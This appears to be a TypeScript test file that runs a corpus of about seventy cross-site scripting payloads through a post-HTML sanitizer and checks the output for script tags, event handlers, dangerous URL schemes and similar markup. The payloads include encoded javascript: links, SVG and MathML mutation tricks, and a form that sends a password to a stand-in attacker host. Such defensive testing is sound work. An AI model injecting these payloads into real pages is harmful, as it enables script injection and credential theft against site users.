import { decodeHTML } from 'entities';
import { parseDocument } from 'htmlparser2';
import type { ChildNode, Element } from 'domhandler';
import { describe, expect, it } from 'vitest';
import { sanitizePostHtml } from './sanitize';

// Hostile post bodies: what a malicious author, a compromised import or a pasted page could send.
// Each must come out with nothing a browser would run or load on its own.
const CORPUS: string[] = [
  // scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<p>Hi<script>alert(1)</script></p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="module">import("https://evil.example")</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  // event handlers
  '<p onclick="alert(1)">x</p>',
  '<img src="x" onerror="alert(1)">',
  '<img src=x onerror=alert(1)//',
  '<a href="https://example.com" onmouseover="alert(1)">x</a>',
  '<body onload="alert(1)"><p>x</p></body>',
  '<h2 onfocus="alert(1)" autofocus tabindex="0">x</h2>',
  '<blockquote onanimationstart="alert(1)"><p>q</p></blockquote>',
  '<p/onclick=alert(1)>x</p>',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  // javascript:, data: and vbscript: URLs
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x, https://example.com/b.png 2x">',
  '<blockquote cite="javascript:alert(1)"><p>q</p></blockquote>',
  '<blockquote cite="data:text/html,x"><p>q</p></blockquote>',
  '<a href="//evil.example/steal">x</a>',
  // frames, objects and embeds
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<applet code="Evil.class"></applet>',
  // styles
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="position:fixed;inset:0">overlay</div>',
  // svg and math tricks
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  // forms
  '<form action="https://evil.example"><input name="password" type="password"><button>Go</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<textarea><script>alert(1)</script></textarea>',
  '<button formaction="javascript:alert(1)">x</button>',
  // document-level tags
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<template><img src=x onerror=alert(1)></template>',
  // nested and malformed markup
  '<<script>script>alert(1)<</script>/script>',
  '<p><a href="https://example.com"><img src=x onerror=alert(1)></a></p>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="a"onmouseover="alert(1)">x</p>',
  '<img """><script>alert(1)</script>">',
  '<a href="https://example.com" target="_blank">x</a>',
  '<p><img src="https://example.com/a.png" width="100" height="100" loading="lazy" referrerpolicy="unsafe-url" ping="https://t.example"></p>',
  '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
  '<isindex action="javascript:alert(1)" type="image">',
  '<marquee onstart="alert(1)">x</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="x" onerror="alert(1)"></audio>',
  '<div id="x" class="y" data-track="z">text</div>',
];

const ALLOWED_TAGS = new Set([
  'p', 'br', 'h2', 'h3', 'h4', 'strong', 'em', 's', 'u', 'a', 'ul', 'ol', 'li', 'blockquote', 'figure',
  'figcaption', 'cite', 'code', 'pre', 'hr', 'img', 'sub', 'sup',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'cite']);
const IGNORED_BY_BROWSERS = /[\u0000-\u0020\u007f-\u009f]/g;

/** A URL attribute is safe when, read as a browser reads it, it names no scheme other than http(s) or mailto. */
function isSafeUrl(value: string): boolean {
  const compact = decodeHTML(value).replace(IGNORED_BY_BROWSERS, '');
  if (compact.startsWith('//')) return false;
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(compact)?.[1]?.toLowerCase();
  return !scheme || ['http', 'https', 'mailto'].includes(scheme);
}

function problems(html: string): string[] {
  const found: string[] = [];
  const visit = (nodes: ChildNode[]) => {
    for (const node of nodes) {
      if (node.type === 'comment' || node.type === 'cdata' || node.type === 'directive') found.push(`${node.type} node`);
      if (node.type !== 'tag' && node.type !== 'script' && node.type !== 'style') continue;
      const el = node as Element;
      if (!ALLOWED_TAGS.has(el.name)) found.push(`<${el.name}>`);
      for (const [name, value] of Object.entries(el.attribs)) {
        if (name.startsWith('on')) found.push(`${name} handler`);
        if (name === 'style') found.push('style attribute');
        if (URL_ATTRIBUTES.has(name) && !isSafeUrl(value)) found.push(`${name}=${value}`);
        if (name === 'srcset' && value.split(',').some((candidate) => !isSafeUrl(candidate.trim().split(/\s+/)[0] ?? ''))) {
          found.push(`srcset=${value}`);
        }
      }
      visit(el.children);
    }
  };
  visit(parseDocument(html).children);
  return found;
}

describe('sanitizePostHtml against hostile input', () => {
  it('has a corpus of at least 50 cases', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(50);
  });

  it.each(CORPUS)('%s', (input) => {
    const output = sanitizePostHtml(input);
    expect(problems(output)).toEqual([]);
    // Sanitizing is stable: what is stored comes out the same when sanitized again (imports, re-saves).
    expect(sanitizePostHtml(output)).toBe(output);
  });

  it('would notice an unsafe result (the checker itself works)', () => {
    expect(problems('<p onclick="x">a</p><a href="java&#x09;script:x">b</a><script></script><p style="x">c</p>')).toEqual([
      'onclick handler',
      'href=java\tscript:x',
      '<script>',
      'style attribute',
    ]);
  });

  it('keeps the harmless part of hostile markup', () => {
    expect(sanitizePostHtml('<p onclick="alert(1)">Kept text</p>')).toBe('<p>Kept text</p>');
    expect(sanitizePostHtml('<a href="javascript:alert(1)">Link text</a>')).toBe('<a>Link text</a>');
  });
});
